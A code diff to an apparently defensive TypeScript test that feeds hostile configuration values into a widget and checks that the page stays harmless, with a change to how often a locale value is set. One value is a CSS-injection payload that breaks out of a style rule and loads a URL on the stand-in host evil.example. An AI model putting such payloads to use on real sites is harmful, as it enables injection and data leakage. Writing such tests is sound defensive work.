@@ -62,7 +62,6 @@ const allOf = (text: string, url: string, colour: string) => ({
   description: text,
   avatarUrl: url,
   avatar: url,
-  locale: text,
   color: { primary: colour, message: colour, action: colour, [text]: text },
   borderRadius: `16px;}*{background:url(https://evil.example/${colour})}`,
   zIndex: text,
@@ -92,8 +91,10 @@ const sweep = async (which: number[], check: (page: Page, text: string, url: str
   for (const i of which) {
     const text = TEXTS[i % TEXTS.length] ?? '';
     const url = URLS[i % URLS.length] ?? '';
-    liar.lie(config(() => allOf(text, url, COLOURS[i % COLOURS.length] ?? '')));
-    await page.goto(address);
+    const spoilt = allOf(text, url, COLOURS[i % COLOURS.length] ?? '');
+    // A locale that is none costs a load two more requests, so some of them have one.
+    liar.lie(config(() => ({ ...spoilt, ...(i % 8 === 0 ? { locale: text } : {}) })));
+    await page.goto(address, { waitUntil: 'commit' });
     await check(page, text, url);
     await watched.expectHarmless(address, 30);
   }
